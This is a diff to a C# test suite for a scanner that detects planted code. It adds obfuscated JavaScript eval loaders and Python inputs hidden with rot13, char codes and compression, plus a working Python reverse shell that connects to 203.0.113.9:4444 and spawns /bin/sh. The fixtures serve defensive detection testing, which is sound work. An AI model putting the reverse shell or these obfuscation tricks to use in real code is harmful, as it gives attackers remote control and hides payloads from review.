@@ -23,6 +23,8 @@ public sealed class CodeTests : IDisposable
         $"const p='{string.Concat(Payload.Select(character => $"\\x{(int)character:x2}"))}';const q=unescape(p);eval(q)",
         $"var k=[{string.Join(",", Payload.Select(character => character ^ 77))}];eval(k.map(c=>String.fromCharCode(c^77)).join(''))",
         $"const z=atob('{Convert.ToBase64String(Encoding.UTF8.GetBytes(Payload))[..60]}'+'{Convert.ToBase64String(Encoding.UTF8.GetBytes(Payload))[60..]}');eval(z)",
+        $"const c='{Convert.ToBase64String(Encoding.UTF8.GetBytes(Payload))}';globalThis[Buffer.from('ZXZhbA==','base64')](Buffer.from(c,'base64').toString())",
+        $"const z=require('zlib');new Function(z.inflateSync(Buffer.from('eJxLzC0oKlZITi0qS8wpTVVIzs8rSc0rAQBMrAc8','base64')).toString())()",
     ];
 
     [Theory]
@@ -33,6 +35,14 @@ public sealed class CodeTests : IDisposable
     [Fact]
     public void A_python_module_that_runs_a_compressed_payload_is_caught() =>
         _planted.InspectPython(("planted/__init__.py", "import zlib,base64\nexec(zlib.decompress(base64.b64decode(b'eJxLzC0oKlZITi0qS8wpTVVIzs8rSc0rAQBMrAc8')))\n")).IsCaughtBy("decodes-and-runs");
+
+    [Theory]
+    [InlineData("import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(1)', 'rot13'))\n")]
+    [InlineData("from fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA'))\n")]
+    [InlineData("x = [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,49,41]\neval(compile(''.join(chr(c) for c in x), 'a', 'exec'))\n")]
+    [InlineData("import socket,subprocess,os\ns=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n")]
+    public void A_python_module_that_hides_or_gives_away_control_is_caught(string code) =>
+        _planted.InspectPython(("planted/__init__.py", code)).IsCaught();
 
     [Fact]
     public void A_program_inside_a_text_is_caught()
